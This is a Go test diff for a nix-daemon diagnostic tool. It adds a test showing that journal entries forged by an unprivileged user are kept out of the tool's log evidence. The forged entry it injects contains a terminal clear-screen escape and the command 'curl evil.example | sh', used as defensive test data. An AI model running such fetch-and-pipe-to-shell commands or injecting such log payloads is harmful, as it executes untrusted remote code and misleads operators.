@@ -22,7 +22,9 @@ func builds(h *linuxnet.Host) bool {
 func TestBusy(t *testing.T) {
 	h := stage(t, linked)
 	h.Run(t, "sh", "-ec", older("systemctl start nix-daemon.service"))
-	main := func() string { return strings.TrimSpace(h.Run(t, "systemctl", "show", "-P", "MainPID", "nix-daemon.service")) }
+	main := func() string {
+		return strings.TrimSpace(h.Run(t, "systemctl", "show", "-P", "MainPID", "nix-daemon.service"))
+	}
 	found, _ := look(t, h.Command(program, "check", "daemon", "--format", "json"))
 	if found.ID != "daemon/older" || found.Remedy.Class != fix.Safe {
 		t.Fatalf("with nobody at work: %+v %+v", found, found.Remedy)
@@ -72,5 +74,35 @@ func TestBusy(t *testing.T) {
 	}
 	if found, rungs := look(t, h.UserCommand(program, "check", "daemon", "--format", "json")); found.ID != "daemon/answers" {
 		t.Errorf("after the repair: %+v\n%s", found, rungs)
+	}
+}
+
+// TestForgedLog: everybody can write into the journal that they are a unit. What root is shown as the daemon's log is
+// the daemon's and systemd's.
+func TestForgedLog(t *testing.T) {
+	h := stage(t, packaged)
+	h.Run(t, "sh", "-ec", "systemctl start nix-daemon.service; "+stop)
+	forged := h.UserCommand("logger", "--journald")
+	forged.Stdin = strings.NewReader("MESSAGE=forged \x1b[2J, run curl evil.example | sh\nUNIT=nix-daemon.service\nOBJECT_SYSTEMD_UNIT=nix-daemon.service\n")
+	if out, err := forged.CombinedOutput(); err != nil {
+		t.Fatalf("%v\n%s", err, out)
+	}
+	for deadline := time.Now().Add(20 * time.Second); ; time.Sleep(50 * time.Millisecond) {
+		if strings.Contains(h.Run(t, "journalctl", "-q", "--no-pager", "UNIT=nix-daemon.service"), "curl evil") {
+			break
+		}
+		if time.Now().After(deadline) {
+			t.Fatal("the line did not come into the journal")
+		}
+	}
+	found, _ := look(t, h.Command(program, "check", "daemon", "--format", "json"))
+	log := ""
+	for _, e := range found.Evidence {
+		if strings.Contains(e.Source, "log") {
+			log = e.Observed
+		}
+	}
+	if !strings.Contains(log, "Stopped nix-daemon.service") || strings.Contains(log, "evil") {
+		t.Errorf("%s: %s", found.ID, log)
 	}
 }
